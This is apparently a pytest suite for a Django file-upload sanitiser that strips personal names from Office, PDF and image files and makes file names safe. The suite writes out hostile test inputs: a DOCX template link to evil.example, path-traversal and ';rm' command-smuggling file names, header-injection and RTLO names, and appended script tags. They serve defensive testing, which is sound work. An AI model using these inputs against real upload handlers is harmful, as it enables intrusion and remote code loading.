"""What is taken in of files that anybody may give, what is left of them, and what is refused, in words and soon."""

import io
import resource
import time

import docx
import openpyxl
import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from core.uploads import picture_taken_in, taken_in
from core.uploads.names import safe_name
from tests import given_files
from tests.given_files import NAME, unpacked
from tests.hostile_files import HOSTILE, sent


def taken(content, name):
    return taken_in(SimpleUploadedFile(name, content)).read()


@pytest.mark.parametrize("condition", HOSTILE)
def test_a_file_that_does_harm_is_refused_in_words_and_soon(condition):
    content, name, words = sent(condition)
    upload = SimpleUploadedFile("x", content)
    upload._name = name  # as a browser sends it; Django's own cleaning of names comes on top
    began, memory = time.process_time(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss

    with pytest.raises(ValidationError) as refused:
        taken_in(upload)

    assert words in refused.value.messages[0]
    assert time.process_time() - began < 2  # of the processor: the machine may have other work
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - memory < 300_000


GIVEN = {
    "65 docx": (given_files.word, "a.docx"),
    "65 xlsx": (given_files.table, "a.xlsx"),
    "65 pptx": (given_files.slides, "a.pptx"),
    "65 odt": (given_files.open_text, "a.odt"),
    "65 pdf": (given_files.pdf, "a.pdf"),
    "65 jpg": (given_files.photo, "a.jpg"),
    "65 a table in a document": (
        lambda: given_files.word(**{"word/embeddings/a.xlsx": given_files.table()}),
        "a.docx",
    ),
}


@pytest.mark.parametrize(("made", "name"), GIVEN.values(), ids=GIVEN)
def test_what_is_kept_names_nobody(made, name):
    given = made()
    assert NAME in all_words(given)

    kept = taken(given, name)

    assert NAME not in all_words(kept)
    assert taken(kept, name) == kept
    assert taken(given, name) == kept


def all_words(content):
    """Every byte that a reader could see, packages and packed streams opened."""
    if content.startswith(b"PK"):
        return "\n".join(all_words(part) for part in unpacked(content).values())
    if content.startswith(b"%PDF"):
        with pikepdf.open(io.BytesIO(content)) as paper:
            streams = [thing.read_raw_bytes() for thing in paper.objects if isinstance(thing, pikepdf.Stream)]
            things = "".join(repr(thing) for thing in paper.objects if not isinstance(thing, pikepdf.Stream))
            return things + repr(paper.trailer) + b"".join(streams).decode("latin-1")
    return content.decode("latin-1")


def test_the_words_of_a_document_stay_and_it_opens():
    kept = taken(given_files.word(), "a.docx")

    opened = docx.Document(io.BytesIO(kept))
    assert [line.text for line in opened.paragraphs if line.text] == ["As agreed."]
    assert [(note.text, note.author) for note in opened.comments] == [("Why?", "Author")]
    assert '>author="kept"<' in unpacked(kept)["word/document.xml"].decode()


def test_the_cells_of_a_table_stay_and_it_opens():
    book = openpyxl.load_workbook(io.BytesIO(taken(given_files.table(), "a.xlsx")))

    assert (book.active["A1"].value, book.active["A1"].comment.text) == (5, "Why?")
    assert book.active["A1"].comment.author == "Author"


def test_the_title_and_the_pages_of_a_pdf_stay():
    kept = taken(given_files.pdf(title="Rapport é", words="BT (As agreed) Tj ET"), "a.pdf")

    with pikepdf.open(io.BytesIO(kept)) as paper:
        assert (str(paper.docinfo["/Title"]), len(paper.docinfo)) == ("Rapport é", 1)
        assert paper.pages[0].obj.Contents.read_bytes() == b"BT (As agreed) Tj ET"
        assert str(paper.pages[0].obj.Annots[0].Contents) == "Why?"


def test_a_signed_pdf_stays_byte_for_byte():
    signed = given_files.pdf(signed=True)

    assert taken(signed, "a.pdf") == signed


def test_a_pdf_with_a_script_is_kept_for_taking_away():
    assert taken(given_files.pdf(script="app.alert(1)"), "a.pdf").startswith(b"%PDF-")


def test_what_stands_before_and_behind_a_document_is_left_behind():
    page = b"<script>alert(1)</script>"

    assert b"<script>" not in taken(given_files.pdf() + page, "a.pdf")
    assert b"<script>" not in taken(given_files.word() + page, "a.docx")
    assert b"<script>" not in taken(given_files.photo() + page, "a.jpg")


def test_a_photograph_in_a_document_keeps_how_it_is_held():
    kept = unpacked(taken(given_files.word(), "a.docx"))["word/media/image1.jpg"]

    assert dict(Image.open(io.BytesIO(kept)).getexif()) == {0x0112: 6}
    assert Image.open(io.BytesIO(kept)).tobytes() == Image.open(io.BytesIO(given_files.photo())).tobytes()


def test_the_template_of_a_document_is_not_loaded_from_elsewhere():
    tie = '<Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/>'

    kept = unpacked(taken(given_files.word(**{"word/_rels/settings.xml.rels": tie}), "a.docx"))

    assert b"evil" not in kept["word/_rels/settings.xml.rels"]


@pytest.mark.parametrize("size", [(9000, 4400), (4400, 9000)])
@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
def test_the_largest_picture_that_is_taken_is_read_in_little_memory(kind, size):
    given = given_files.picture(kind, size)
    memory = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss

    kept = Image.open(picture_taken_in(SimpleUploadedFile(f"a.{kind.lower()}", given)))

    assert kept.size in (size, (size[0] // 2, size[1] // 2))
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - memory < 300_000


def test_a_picture_of_few_colours_stays_small():
    drawn = Image.effect_noise((500, 500), 50).convert("P", palette=Image.Palette.ADAPTIVE, colors=16)
    stored = io.BytesIO()
    drawn.save(stored, "PNG", optimize=True)

    assert len(taken(stored.getvalue(), "a.png")) <= 1.1 * len(stored.getvalue())


def test_61_an_animation_of_ten_thousand_frames_is_one_picture():
    frames = [Image.new("L", (1, 1), number % 256) for number in range(10_000)]
    stored = io.BytesIO()
    frames[0].save(stored, "PNG", save_all=True, append_images=frames[1:])

    assert getattr(Image.open(io.BytesIO(taken(stored.getvalue(), "a.png"))), "n_frames", 1) == 1


def test_several_pictures_in_one_file_of_a_phone_are_the_first():
    stored = io.BytesIO()
    first, second = Image.new("RGB", (9, 9), "red"), Image.new("RGB", (9, 9), "blue")
    first.save(stored, "MPO", save_all=True, append_images=[second])

    assert Image.open(io.BytesIO(taken(stored.getvalue(), "a.jpg"))).format == "JPEG"


def test_63_a_file_of_exactly_the_most_is_taken():
    given = given_files.pdf(words="x" * 9_000_000)
    given = given_files.pdf(words="x" * (9_000_000 + 10_000_000 - len(given)))
    assert len(given) == 10_000_000

    assert taken(given, "a.pdf")


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../x.pdf", "x.pdf"),
        ("C:\\users\\x.pdf", "x.pdf"),
        ("con.pdf", "con_.pdf"),
        ("a" * 296 + ".pdf", "a" * 96 + ".pdf"),
        (";rm.pdf", "rm.pdf"),
        ('a"\r\nX: y.pdf', "aX_y.pdf"),
        ("cod\u202efdp.pdf", "codfdp.pdf"),
        ("report.exe.pdf", "report_exe.pdf"),
        ("Rapport été.PDF", "Rapport_ete.pdf"),
        ("تقرير.pdf", "file.pdf"),
        ("..pdf", "file.pdf"),
    ],
)
def test_62_a_file_gets_a_safe_name(given, kept):
    assert safe_name(given) == kept
